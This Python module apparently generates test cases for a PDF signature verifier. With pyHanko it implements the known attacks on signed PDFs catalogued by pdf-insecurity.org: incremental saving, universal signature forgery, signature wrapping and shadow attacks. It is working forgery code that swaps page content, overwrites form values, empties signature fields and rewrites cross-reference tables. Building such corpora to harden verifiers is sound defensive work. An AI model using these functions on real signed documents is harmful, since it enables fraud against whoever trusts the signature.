"""Known attacks on signed PDFs, each as bytes in, bytes out (pdf-insecurity.org: USF, ISA, SWA, shadow attacks)."""

from __future__ import annotations

import io
import re

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.generic import pdf_name, pdf_string
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter

RANGE = re.compile(rb"/ByteRange\s*\[\s*(\d+)\s+(\d+)\s+(\d+)\s+(\d+)\s*\]")
EVIL = b"BT /F1 40 Tf 60 400 Td (100.000.000.000 VND) Tj ET"


def ranges(data):
    return [[int(number) for number in found.groups()] for found in RANGE.finditer(data)]


def updated(data, change):
    """Append an ordinary incremental update in which ``change(writer)`` does what it wants."""
    writer = IncrementalPdfFileWriter(io.BytesIO(data))
    change(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def page(writer, index=0):
    kids = writer.root["/Pages"]["/Kids"]
    one = kids[index]
    while "/Kids" in one:
        one = one["/Kids"][0]
    return one


def evil_stream(writer):
    return writer.add_object(generic.StreamObject(stream_data=EVIL))


def field(writer, name):
    fields = [one.get_object() for one in writer.root["/AcroForm"]["/Fields"]]
    return next(one for one in fields if one["/T"] == name)


# ---------------------------------------------------------------- one byte, and bytes behind the end


def one_byte(data, at):
    return data[:at] + bytes([data[at] ^ 1]) + data[at + 1 :]


def garbage(data):
    return data + b"\nbytes that belong to nothing"


def comment(data):
    return data + b"\n% paid\n"


# ---------------------------------------------------------------- ISA: incremental saving


def isa_content(data):
    def change(writer):
        one = page(writer)
        one["/Contents"] = evil_stream(writer)
        writer.update_container(one)

    return updated(data, change)


def isa_page_added(data):
    def change(writer):
        first = page(writer)
        new = generic.DictionaryObject(
            {
                pdf_name("/Type"): pdf_name("/Page"),
                pdf_name("/MediaBox"): first["/MediaBox"],
                pdf_name("/Contents"): evil_stream(writer),
                pdf_name("/Resources"): generic.DictionaryObject(),
            }
        )
        writer.insert_page(new)

    return updated(data, change)


def isa_annotation(data):
    def change(writer):
        note = generic.DictionaryObject(
            {
                pdf_name("/Type"): pdf_name("/Annot"),
                pdf_name("/Subtype"): pdf_name("/FreeText"),
                pdf_name("/Rect"): generic.ArrayObject(
                    map(generic.NumberObject, (50, 50, 400, 90))
                ),
                pdf_name("/Contents"): pdf_string("Không thi hành"),
                pdf_name("/DA"): pdf_string("/Helv 12 Tf"),
            }
        )
        one = page(writer)
        one["/Annots"].append(writer.add_object(note))
        writer.update_container(one)

    return updated(data, change)


def _evil_objects(data):
    number = len(re.findall(rb"\d+ 0 obj", data)) + 50
    stream = b"%d 0 obj\n<</Length %d>>\nstream\n%s\nendstream\nendobj\n" % (
        number,
        len(EVIL),
        EVIL,
    )
    return stream, number


def isa_objects_without_table(data):
    return data + b"\n" + _evil_objects(data)[0]


def isa_3_empty_table(data):
    """The update's table is empty: strict readers see nothing new, repairing ones a new page."""
    start = re.findall(rb"startxref\s+(\d+)", data)[-1]
    root = re.findall(rb"/Root (\d+ \d+ R)", data)[-1]
    body = data + b"\n" + _evil_objects(data)[0]
    table = b"xref\n0 0\ntrailer\n<</Size 900 /Root %s /Prev %s>>\n" % (root, start)
    return body + table + b"startxref\n%d\n%%%%EOF\n" % len(body)


def isa_table_of_another_place(data):
    """The tail's startxref points back into the signed part."""
    start = re.findall(rb"startxref\s+(\d+)", data)[-1]
    return data + b"\n" + _evil_objects(data)[0] + b"startxref\n%s\n%%%%EOF\n" % start


def isa_hidden_behind_object(data):
    """A good update, with a second object hidden in the room of the first."""
    good = updated(data, lambda writer: writer.add_object(pdf_string("x")))
    tail = good[len(data) :]
    hidden = tail.replace(b"endobj", b"endobj\n9 0 obj (hidden) endobj", 1)
    moved = len(hidden) - len(tail)
    start = int(re.findall(rb"startxref\s+(\d+)", tail)[-1])
    return data + hidden.replace(b"startxref\n%d" % start, b"startxref\n%d" % (start + moved))


# ---------------------------------------------------------------- USF: universal signature forgery

USF = {
    "contents null": ("/Contents", generic.NullObject()),
    "contents empty": ("/Contents", generic.ByteStringObject(b"")),
    "contents zero": ("/Contents", generic.ByteStringObject(b"\x00")),
    "contents gone": ("/Contents", None),
    "range null": ("/ByteRange", generic.NullObject()),
    "range gone": ("/ByteRange", None),
    "range empty": ("/ByteRange", generic.ArrayObject()),
    "range negative": (
        "/ByteRange",
        generic.ArrayObject(map(generic.NumberObject, (0, -1, -1, 0))),
    ),
    "value a number": ("/V", generic.NumberObject(1)),
}


def usf(data, how):
    """Replace the text and spoil the signature so that a careless verifier has nothing to check."""

    def change(writer):
        one = field(writer, "ConDau")
        sig = one["/V"]
        key, value = USF[how]
        target = one if key == "/V" else sig
        if value is None:
            del target[key]
        else:
            target[pdf_name(key)] = value
        writer.update_container(target)
        writer.update_container(one)
        first = page(writer)
        first["/Contents"] = evil_stream(writer)
        writer.update_container(first)

    return updated(data, change)


def usf_in_place(data):
    """Overwrite the /Contents of the last signature with zeros, same length."""
    _zero, first, second, _length = ranges(data)[-1]
    return data[:first] + b"<" + b"0" * (second - first - 2) + b">" + data[second:]


# ---------------------------------------------------------------- SWA: signature wrapping


def swa(data):
    """Move the second signed part to the end, point a new /ByteRange there, fill the gap with something else."""
    _zero, first, second, length = ranges(data)[-1]
    wrapped = data[:second] + data[second:] + b"\n" + _evil_objects(data)[0]
    moved = len(wrapped)
    wrapped += data[second : second + length]

    def change(writer):
        sig = field(writer, "ConDau")["/V"]
        numbers = map(generic.NumberObject, (0, first, moved, length))
        sig[pdf_name("/ByteRange")] = generic.ArrayObject(numbers)
        writer.update_container(sig)

    return updated(wrapped, change)


def swa_raw(data):
    """The same without an update: the numbers in place are changed as far as their digits allow."""
    _zero, first, second, length = ranges(data)[-1]
    old = b"%d %d %d %d" % (0, first, second, length)
    at = data.rfind(old)
    new = b"%d %d %d %d" % (0, first, second - 2, length)
    return data[:at] + new + data[at + len(old) :]


# ---------------------------------------------------------------- shadow attacks and other later changes


def signature_removed(data):
    def change(writer):
        form = writer.root["/AcroForm"]
        form[pdf_name("/Fields")] = generic.ArrayObject()
        writer.update_container(form)
        writer.update_root()

    return updated(data, change)


def form_removed(data):
    def change(writer):
        del writer.root["/AcroForm"]
        writer.update_root()

    return updated(data, change)


def field_overwritten(data, name="So", value="06"):
    """The “replace” shadow attack: a field that said something says something else."""

    def change(writer):
        one = field(writer, name)
        one[pdf_name("/V")] = pdf_string(value)
        drawing = generic.StreamObject(stream_data=b"BT /Helv 12 Tf (06) Tj ET")
        drawing[pdf_name("/Type")] = pdf_name("/XObject")
        drawing[pdf_name("/Subtype")] = pdf_name("/Form")
        drawing[pdf_name("/BBox")] = generic.ArrayObject(map(generic.NumberObject, (0, 0, 30, 16)))
        one[pdf_name("/AP")] = generic.DictionaryObject(
            {pdf_name("/N"): writer.add_object(drawing)}
        )
        writer.update_container(one)

    return updated(data, change)


def hide_and_replace(data):
    """Only a table is appended; it points an object of the page to other bytes that were signed unseen."""
    start = re.findall(rb"startxref\s+(\d+)", data)[-1]
    root = re.findall(rb"/Root (\d+ \d+ R)", data)[-1]
    target = data.find(b" 0 obj", data.find(b" 0 obj") + 10)
    offset = data.rfind(b"\n", 0, target) + 1
    body = data + b"\n"
    table = b"xref\n1 1\n%010d 00000 n \ntrailer\n<</Size 900 /Root %s /Prev %s>>\n" % (
        offset,
        root,
        start,
    )
    return body + table + b"startxref\n%d\n%%%%EOF\n" % len(body)


def object_freed(data):
    """The “hide” shadow attack: what covered the page is taken away."""
    start = re.findall(rb"startxref\s+(\d+)", data)[-1]
    root = re.findall(rb"/Root (\d+ \d+ R)", data)[-1]
    body = data + b"\n"
    table = b"xref\n0 1\n0000000005 65535 f \n5 1\n0000000000 00001 f \n"
    trailer = b"trailer\n<</Size 900 /Root %s /Prev %s>>\n" % (root, start)
    return body + table + trailer + b"startxref\n%d\n%%%%EOF\n" % len(body)
